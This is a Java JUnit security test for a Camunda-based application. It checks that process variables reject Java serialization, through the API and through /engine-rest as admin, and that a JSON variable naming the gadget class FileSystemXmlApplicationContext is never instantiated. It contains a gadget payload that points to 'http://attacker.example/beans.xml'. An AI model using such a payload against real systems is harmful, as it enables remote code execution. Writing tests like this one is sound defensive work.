package org.citycoop.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import org.camunda.bpm.engine.ProcessEngineException;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.variable.Variables;
import org.camunda.bpm.engine.variable.Variables.SerializationDataFormats;
import org.camunda.bpm.engine.variable.value.ObjectValue;
import org.citycoop.CityCoopTest;
import org.citycoop.TestProposals;
import org.citycoop.TestUsers;
import org.citycoop.project.ProjectService;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Issue 7, attack 4: process variables cannot carry Java serialization (the gadget-chain door),
 * neither through the engine's API nor through /engine-rest as admin; objects are stored as JSON by
 * default; and a JSON variable naming a class outside org.citycoop is never turned into an object.
 */
@CityCoopTest
class SerializationAttackTest {

    /** A class whose construction from JSON is a known gadget (CVE-2017-17485): it must never be instantiated. */
    private static final String GADGET = "org.springframework.context.support.FileSystemXmlApplicationContext";

    @LocalServerPort
    int port;

    @Autowired RuntimeService runtime;
    @Autowired ProjectService projects;
    @Autowired TestUsers users;

    private String processInstanceId;

    @BeforeEach
    void aProjectProcessRuns() {
        String code = projects.propose(TestProposals.of("Serialization " + UUID.randomUUID(), "SBY"), users.get("kitakyushu.officer"))
                .code();
        processInstanceId = runtime.createProcessInstanceQuery().processInstanceBusinessKey(code)
                .processDefinitionKey("CooperationProjectProcess").singleResult().getId();
    }

    @AfterEach
    void noVariableOfTheTestStays() {
        runtime.removeVariables(processInstanceId, List.of("payload", "sample", "gadget"));
    }

    @Test
    void theEngineRefusesJavaSerializedVariables() throws IOException {
        ObjectValue serialized = Variables.serializedObjectValue(javaSerialized(new ArrayList<>(List.of("payload"))))
                .serializationDataFormat(SerializationDataFormats.JAVA).objectTypeName(ArrayList.class.getName()).create();
        ObjectValue object = Variables.objectValue(new ArrayList<>(List.of("payload")))
                .serializationDataFormat(SerializationDataFormats.JAVA).create();

        assertThatThrownBy(() -> runtime.setVariable(processInstanceId, "payload", serialized))
                .isInstanceOf(ProcessEngineException.class)
                .hasMessageContaining("Java serialization format is prohibited");
        assertThatThrownBy(() -> runtime.setVariable(processInstanceId, "payload", object)).as("nor written from an object")
                .isInstanceOf(ProcessEngineException.class)
                .hasMessageContaining("Cannot find serializer");
        assertThat(runtime.getVariable(processInstanceId, "payload")).isNull();
    }

    @Test
    void engineRestRefusesJavaSerializedVariablesEvenFromAnAdmin() throws IOException {
        String body = """
                {"type": "Object", "value": "%s",
                 "valueInfo": {"objectTypeName": "java.util.ArrayList", "serializationDataFormat": "application/x-java-serialized-object"}}"""
                .formatted(javaSerialized(new ArrayList<>(List.of("payload"))));

        HttpResponse<String> refused = admin().putJson(variable("payload"), body);

        assertThat(refused.statusCode()).as(refused.body()).isBetween(400, 599).isNotEqualTo(404);
        assertThat(refused.body()).contains("Java serialization");
        assertThat(runtime.getVariable(processInstanceId, "payload")).isNull();
    }

    @Test
    void objectsAreStoredAsJsonByDefault() {
        runtime.setVariable(processInstanceId, "sample", new Sample("KIT-2027-001"));

        ObjectValue stored = runtime.getVariableTyped(processInstanceId, "sample", false);
        assertThat(stored.getSerializationDataFormat()).isEqualTo(SerializationDataFormats.JSON.getName());
        assertThat(stored.getValueSerialized()).isEqualTo("{\"code\":\"KIT-2027-001\"}");
        assertThat(((Sample) runtime.getVariable(processInstanceId, "sample")).getCode()).as("a CityCoop class is read back")
                .isEqualTo("KIT-2027-001");
    }

    @Test
    void aJsonVariableNamingAClassOutsideCityCoopIsNeverInstantiated() {
        runtime.setVariable(processInstanceId, "gadget", Variables.serializedObjectValue("\"http://attacker.example/beans.xml\"")
                .serializationDataFormat(SerializationDataFormats.JSON).objectTypeName(GADGET).create());

        assertThatThrownBy(() -> runtime.getVariable(processInstanceId, "gadget"))
                .isInstanceOf(ProcessEngineException.class)
                .hasMessageContaining(GADGET);

        HttpResponse<String> overRest = admin().get(variable("gadget"));
        assertThat(overRest.statusCode()).as(overRest.body()).isBetween(400, 599);
        assertThat(overRest.body()).doesNotContain("attacker.example/beans.xml\"}");
    }

    private WebClient admin() {
        return WebClient.basic(port, "admin", "demo");
    }

    private String variable(String name) {
        return "/engine-rest/process-instance/" + processInstanceId + "/variables/" + name;
    }

    private static String javaSerialized(Object value) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(value);
        }
        return Base64.getEncoder().encodeToString(bytes.toByteArray());
    }

    /** A value object of CityCoop's own packages, the only ones the engine may read back from JSON. */
    public static class Sample {

        private String code;

        public Sample() {
        }

        Sample(String code) {
            this.code = code;
        }

        public String getCode() {
            return code;
        }

        public void setCode(String code) {
            this.code = code;
        }
    }
}
